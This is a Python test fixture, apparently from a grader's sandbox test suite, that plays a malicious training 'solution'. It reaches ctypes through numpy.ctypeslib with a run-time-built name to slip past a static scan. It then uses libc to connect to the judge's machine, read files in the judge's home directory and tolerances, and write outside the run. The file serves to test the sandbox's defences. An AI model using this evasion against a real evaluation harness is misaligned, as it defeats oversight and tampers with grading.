"""EXPLOIT: native calls through an allowed module (numpy.ctypeslib's ctypes, reached with
an attribute name built at run time): libc's socket/connect to a server on the judge's
machine, open/read of a file in the judge's $HOME, open/write of a file outside the run,
and a read of the judge's own tolerances. The audit hook sees ctypes but not what libc
does; the targets are in `targets.txt` beside this file (the test writes it).
Caught by: the static scan (getattr on a module with a computed name) and the audit hook
(ctypes called by the solution); without both, the kernel: an empty network namespace, a
mount namespace without $HOME, the checkout or the test's files, the system read-only."""

import numpy.ctypeslib

from baseline.train import train as reference_train

AF_INET, SOCK_STREAM = 2, 1
O_RDONLY, O_WRONLY, O_APPEND = 0, 1, 0o2000


def _libc():
    native = getattr(numpy.ctypeslib, "c" + "types")
    return native, native.CDLL(None, use_errno=True)


def _connect(native, libc, host: str, port: int) -> str:
    fd = libc.socket(AF_INET, SOCK_STREAM, 0)
    if fd < 0:
        return f"socket errno {native.get_errno()}"
    address = (AF_INET.to_bytes(2, "little") + port.to_bytes(2, "big")
               + bytes(int(part) for part in host.split(".")) + bytes(8))
    if libc.connect(fd, native.c_char_p(address), len(address)) != 0:
        return f"connect errno {native.get_errno()}"
    return "connected"


def _read(native, libc, path: str) -> str:
    fd = libc.open(path.encode(), O_RDONLY)
    if fd < 0:
        return f"open errno {native.get_errno()}"
    buffer = native.create_string_buffer(256)
    n = libc.read(fd, buffer, 255)
    return "read " + buffer.raw[:max(n, 0)].decode(errors="replace")


def _write(native, libc, path: str) -> str:
    fd = libc.open(path.encode(), O_WRONLY | O_APPEND)
    if fd < 0:
        return f"open errno {native.get_errno()}"
    n = libc.write(fd, b"PWNED", 5)
    return "written" if n == 5 else f"write errno {native.get_errno()}"


def train(cfg, init, tokens, batches):
    native, libc = _libc()
    for line in open(__file__.rsplit("/", 1)[0] + "/targets.txt").read().splitlines():
        action, _, target = line.partition(" ")
        if action == "connect":
            host, _, port = target.partition(":")
            outcome = _connect(native, libc, host, int(port))
        elif action == "write":
            outcome = _write(native, libc, target)
        else:
            outcome = _read(native, libc, target)
        print(f"NATIVE {action} {outcome}", flush=True)
    return reference_train(cfg, init, tokens, batches)
